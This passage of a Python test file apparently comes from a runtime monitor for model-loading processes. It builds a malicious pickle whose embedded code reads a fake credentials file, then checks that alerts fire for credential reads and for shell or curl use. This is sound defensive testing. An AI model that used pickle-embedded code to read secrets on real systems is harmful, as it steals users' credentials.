    credential in the same kernel does not. The control runs the same
    cells in a script that is no notebook: there they alert."""
    with Scenario("fc-notebook") as sc:
        cred = sc.fake_credentials()
        clean = sc.make_model("pickle", "clean.pkl")
        evil = sc.make_model("pickle", "evil.pkl", exec_code="open(%r).read()" % cred)
        kernel = sc.write("ipykernel_launcher.py", NOTEBOOK)
        script = sc.write("cells.py", NOTEBOOK)
        sc.start(sentinel=True, extra_args=["-v"] + extra)
        twin = sc._run([PY, kernel, clean], 60, tag="nb-twin")
        nb = sc._run([PY, kernel, clean, evil], 60, tag="nb")
        ctl = sc._run([PY, script, clean], 60, tag="control")
        for r in (twin, nb, ctl):
            if r.rc != 0:
                raise TestFailure("notebook failed: %s" % r.err[-300:])
        sc.expect_seen("the notebook's curl", lambda e: e["loader"] == twin.pid
                       and e["kind"] == "exec" and e["path"].endswith("/curl"))
        sc.wait_rules(ctl.pid, {"model-loader-shell", "model-loader-downloader"})
        sc.wait_alerts(lambda al: any(get(a, "rule", "id") == "model-loader-credential-read"
                                      and get(a, "process", "pid") == nb.pid for a in al))
        sc.liveness_sentinel()
        alerts = sc.stop()
        c = Checks("notebook")
        _silent(c, alerts, twin.pid, "a notebook's shell and curl after a clean load")
        rules = {get(a, "rule", "id") for a in touching(alerts, nb.pid)}
        c.true("model-loader-credential-read" in rules, "no credential alert in the notebook: %s"
               % sorted(rules))
        c.true(not rules & {"model-loader-shell", "model-loader-downloader"},
               "the user's own shell or curl alerted in a notebook: %s" % sorted(rules))
        require_rules(sc, alerts, ctl.pid, {"model-loader-shell", "model-loader-downloader"})
        c.done()


def test_notebook_that_loads_a_model():
    _notebook([])


def test_notebook_that_loads_a_model_no_scan():
    _notebook(NO_SCAN)
